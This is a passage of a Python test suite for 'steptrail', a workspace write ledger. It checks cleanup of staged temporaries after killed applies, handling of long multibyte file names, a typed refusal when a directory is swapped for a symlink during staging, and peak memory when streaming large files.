    """Five writes of 64 KiB; the apply is SIGKILLed before the third temporary's fsync:
    three temporaries are on disk, none renamed."""
    for i in range(5):
        w.file(f"d{i % 2}/f{i}.bin", b"old%d" % i, 0o644)
    w.admit("s1", *(Write(f"d{i % 2}/f{i}.bin", bytes([i]) * BIG, h(b"old%d" % i))
                    for i in range(5)))
    w.killed(lambda led: led.workspaces.apply("s1", epoch=w.epoch), nth("ws-fsync", 3))
    assert len(w.temporaries()) == 3
    assert w.ledger.step("s1").state == "planned"


STRANGERS = (".notes.steptrail-backup.tmp", "f.steptrail-1-abcdef01-abcdef01.tmp",
             ".dir.steptrail-1-abcdef01-abcdef01.tmp", ".ln.steptrail-1-abcdef01-abcdef01.tmp")


def _strangers(w: World) -> list[str]:
    """Names that look like steptrail's temporaries but are not its leftovers."""
    outside = w.tmp / "outside.txt"
    outside.write_text("keep")
    (w.dir / "d0" / ".notes.steptrail-backup.tmp").write_text("a user's file")
    (w.dir / "d0" / "f.steptrail-1-abcdef01-abcdef01.tmp").write_text("no leading dot")
    (w.dir / "d0" / ".dir.steptrail-1-abcdef01-abcdef01.tmp").mkdir()
    (w.dir / "d1" / ".ln.steptrail-1-abcdef01-abcdef01.tmp").symlink_to(outside)
    return list(STRANGERS)


def _strangers_kept(w: World, names: list[str]) -> None:
    for name in names:
        assert (w.dir / "d0" / name).exists() or (w.dir / "d1" / name).is_symlink()
    assert (w.tmp / "outside.txt").read_text() == "keep"


def test_the_next_apply_removes_what_a_killed_apply_staged(tmp_path: Path) -> None:
    """The review: 24 kills of 60 applies left 20 temporaries (~20 MiB) in the user's
    repository, visible in git status; a re-apply did not remove them."""
    w = World(tmp_path)
    _kill_mid_staging(w)
    names = _strangers(w)
    # a sibling step (admitted: in flight) staging under the live epoch right now: its
    # temporary is kept; one of an attempt that is over is removed
    w.admit("sibling", Write("d0/x.bin", b"x", None))
    sibling = w.dir / "d0" / ledger.workspace.names.temp_name(
        "x.bin", w.epoch, ledger.workspace.names.attempt_tag("sibling", 1))
    ended = w.dir / "d0" / ledger.workspace.names.temp_name(
        "y.bin", w.epoch, ledger.workspace.names.attempt_tag("long-done", 1))
    ended.write_bytes(b"a kill after its commit")
    sibling.write_bytes(b"live")
    assert w.apply("s1") == "applied"
    assert w.temporaries() == [str(sibling.relative_to(w.dir))]
    _strangers_kept(w, names)
    assert all((w.dir / f"d{i % 2}/f{i}.bin").read_bytes() == bytes([i]) * BIG for i in range(5))
    assert w.ledger.verify().ok


def test_the_next_epoch_settling_removes_what_a_killed_apply_staged(tmp_path: Path) -> None:
    w = World(tmp_path)
    _kill_mid_staging(w)
    names = _strangers(w)
    lease = w.ledger.workspaces.acquire("w", "agent-2", ttl_s=60, force=True)
    assert lease.settled == ("s1",)
    assert w.temporaries() == []
    _strangers_kept(w, names)
    assert (w.dir / "d0" / "f0.bin").read_bytes() == b"old0"


def test_gc_removes_what_an_abandoned_killed_apply_staged(tmp_path: Path) -> None:
    """Nobody came back to the attempt: while its lease is live gc keeps the temporaries
    (their stager may be alive); once the lease lapsed, they go."""
    w = World(tmp_path)
    _kill_mid_staging(w)
    names = _strangers(w)
    assert collect(w.ledger).ws_temp_removed == 0
    assert len(w.temporaries()) == 3
    w.clock.advance(2 * 3600)  # the lease (1h) lapsed
    assert collect(w.ledger).ws_temp_removed == 3
    assert w.temporaries() == []
    _strangers_kept(w, names)


def test_the_next_apply_removes_what_a_killed_compensation_staged(tmp_path: Path) -> None:
    """Compensation stages the pre-images it puts back: killed before a rename, the
    retry (same epoch) removes those temporaries too."""
    w = World(tmp_path)
    w.file("a.txt", b"a0", 0o644)
    w.admit("s1", Write("a.txt", b"a1", h(b"a0")))
    assert w.apply("s1") == "applied"
    w.killed(lambda led: led.workspaces.compensate("s1", epoch=w.epoch), nth("ws-rename", 1))
    assert len(w.temporaries()) == 1
    w.ledger.workspaces.compensate("s1", epoch=w.epoch)
    assert w.temporaries() == [] and (w.dir / "a.txt").read_bytes() == b"a0"


# --- long multibyte names -----------------------------------------------------------------


def test_a_255_byte_multibyte_name_applies(tmp_path: Path) -> None:
    """The review: 76-85 CJK characters (228-255 bytes) were admitted, then every apply
    failed with StorageFailure "File name too long" (exit 3, "retry later"), forever."""
    w = World(tmp_path)
    name = "漢" * 85
    assert len(name.encode()) == 255
    w.file(name, b"old", 0o640)
    deep = f"{'字' * 85}/{name}"  # a new 255-byte directory, a 255-byte file in it
    w.admit("s1", Write(name, b"new", h(b"old")), Write(deep, b"n", None))
    assert w.apply("s1") == "applied"
    assert (w.dir / name).read_bytes() == b"new" and mode(w.dir / name) == 0o640
    assert (w.dir / deep).read_bytes() == b"n"
    assert w.temporaries() == []


def test_a_name_the_file_system_cannot_hold_is_refused_at_admit(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file system with a smaller NAME_MAX (eCryptfs: 143 bytes): refused when the
    plan is admitted (exit 2, nothing recorded), never admitted to fail at every apply."""
    w = World(tmp_path)
    monkeypatch.setattr(ledger.workspace.names, "name_max", lambda where: 143)
    head = w.ledger.head()
    with pytest.raises(InvalidInput, match="holds at most 143") as err:
        w.ledger.workspaces.admit("w", w.epoch, [StepPlan("s1", [Write("x" * 144, b"n", None)])])
    assert err.value.exit_code == 2
    assert w.ledger.head() == head
    # up to the limit it is admitted and applied (the temporary's name fits the budget)
    w.admit("s2", Write("y" * 143, b"n", None))
    assert w.apply("s2") == "applied"


def test_long_names_on_the_command_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The exit codes a harness sees: a 255-byte name plans and applies (0); a name the
    file system cannot hold is refused by `step plan` with exit 2, one line, nothing
    recorded — not exit 3 ("retry later") at every apply."""
    (tmp_path / "ws").mkdir()

    def cli(*args: str, input: str | None = None) -> CliOut:
        return run_cli(["--ledger", str(tmp_path / "ledger.db"), "--workspace", "w", *args],
                       input=input)

    assert cli("init").code == 0
    assert cli("workspace", "add", "w", str(tmp_path / "ws")).code == 0
    assert cli("lease", "acquire", "--holder", "a", "--ttl", "10m").code == 0

    def plan(step: str, path: str) -> CliOut:
        doc = {"steps": [{"step": step, "writes": [{"path": path, "pre_hash": None,
                                                    "content": "x"}]}]}
        return cli("step", "plan", "--epoch", "1", "-", input=json.dumps(doc))

    assert plan("s1", "漢" * 85).code == 0
    assert cli("step", "apply", "s1", "--epoch", "1").code == 0
    assert (tmp_path / "ws" / ("漢" * 85)).read_text() == "x"
    monkeypatch.setattr(ledger.workspace.names, "name_max", lambda where: 143)
    refused = plan("s2", "y" * 144)
    assert refused.code == 2 and "holds at most 143" in refused.err, refused
    assert cli("step", "apply", "s2", "--epoch", "1").code == 2  # never planned


# --- a directory swapped for a symlink during staging -------------------------------------


def test_a_directory_swapped_for_a_symlink_during_staging_is_a_typed_refusal(
        tmp_path: Path) -> None:
    """The review: a directory flipped to a symlink while staging created it raised an
    untyped NotADirectoryError (nothing escaped). Now PathEscapes, and still nothing is
    written outside."""
    w = World(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    w.admit("s1", Write("sub/new.txt", b"n", None))
    w.ledger.close()

    def swap(name: str) -> None:
        if name == "ws-mkdir":  # the parent was missing; before it is made, a symlink
            (w.dir / "sub").symlink_to(outside)

    led = Ledger.open(w.path, clock=w.clock, on_op=swap)
    with pytest.raises(PathEscapes, match="'sub' is a symlink"):
        led.workspaces.apply("s1", epoch=w.epoch)
    assert list(outside.iterdir()) == []
    assert led.step("s1").state == "planned"


# --- file content is streamed: memory does not follow file size ---------------------------

MiB = 1 << 20

needs_proc = pytest.mark.skipif(not os.path.exists("/proc/self/clear_refs"),
                                reason="peak RSS is read from /proc (Linux)")


def _file_peaks(tmp: Path, size_mib: int) -> dict[str, int]:
    """Peak RSS of snapshot, plan (content_file), apply and store of `size_mib` files."""
    d = tmp / f"n{size_mib}"
    ws = d / "ws"
    ws.mkdir(parents=True)
    pre = write_file(str(ws / "big.bin"), size_mib * MiB, b"pre-image ")
    post = write_file(str(d / "new.bin"), size_mib * MiB, b"post-image ")
    art = write_file(str(d / "art.bin"), size_mib * MiB, b"artifact ")
    with Ledger.init(d / "ledger.db") as led:
        led.workspaces.add("w", str(ws))
        epoch = led.workspaces.acquire("w", "test", ttl_s=3600).epoch
    (d / "plan.json").write_text(json.dumps({"step": "s1", "writes": [
        {"path": "big.bin", "pre_hash": pre, "content_file": "new.bin"}]}))
    g = ["--ledger", str(d / "ledger.db"), "--workspace", "w"]
    peaks = {
        "snapshot": measure(str(d), *g, "workspace", "snapshot", "big.bin")["peak"],
        "plan": measure(str(d), *g, "step", "plan", "--epoch", str(epoch), "plan.json")["peak"],
        "apply": measure(str(d), *g, "step", "apply", "s1", "--epoch", str(epoch))["peak"],
        "store": measure(str(d), *g, "step", "store", "s2", "art.bin")["peak"],
    }
    with Ledger.open(d / "ledger.db", readonly=True) as led:
        assert led.workspaces.snapshot("w", "big.bin")[1] == post  # the apply really wrote it
        assert led.blobs.size(pre) == led.blobs.size(art) == size_mib * MiB  # pinned, stored
        assert led.verify().ok
    return peaks


@needs_proc
def test_file_commands_peak_memory_does_not_follow_file_size(tmp_path: Path) -> None:
    small, large = 8, 40
    a, b = _file_peaks(tmp_path, small), _file_peaks(tmp_path, large)
    # Holding the file once would add 32 MiB (snapshot and apply held it twice); the
    # streaming commands stay within noise of each other.
    for op in a:
        assert b[op] - a[op] < 8 * MiB, (op, a[op] // MiB, b[op] // MiB)


def test_a_write_planned_from_a_file_applies_and_compensates_large_files(tmp_path: Path) -> None:
    """Post-image from an open file (admission streams it into the blob store); a large
    pre-image pinned as a blob file at apply and put back, piece by piece, by
    compensation and by restore."""
    ws = tmp_path / "ws"
    ws.mkdir()
    old, new = os.urandom(3 * MiB + 1), os.urandom(2 * MiB + 3)
    (ws / "big.bin").write_bytes(old)
    (tmp_path / "new.bin").write_bytes(new)
    with Ledger.init(tmp_path / "ledger.db") as led:
        led.workspaces.add("w", str(ws))
        epoch = led.workspaces.acquire("w", "t", ttl_s=3600).epoch
        assert led.workspaces.snapshot("w", "big.bin")[1] == digest_of(old)
        with open(tmp_path / "new.bin", "rb") as f:
            assert led.workspaces.admit("w", epoch, [StepPlan("s1", [Write("big.bin", f, digest_of(old))])]) \
                == [None]
        assert led.workspaces.apply("s1", epoch=epoch).verdict == "applied"
        assert (ws / "big.bin").read_bytes() == new
        assert led.blobs.size(digest_of(old)) == len(old)  # the pre-image, as a blob file
        restored = led.workspaces.compensate("s1", epoch=epoch).restored
        assert [r.outcome for r in restored] == ["restored"]
        assert (ws / "big.bin").read_bytes() == old
        assert not [p for p in os.listdir(ws) if p != "big.bin"]  # no staged leftovers
        assert led.verify().ok
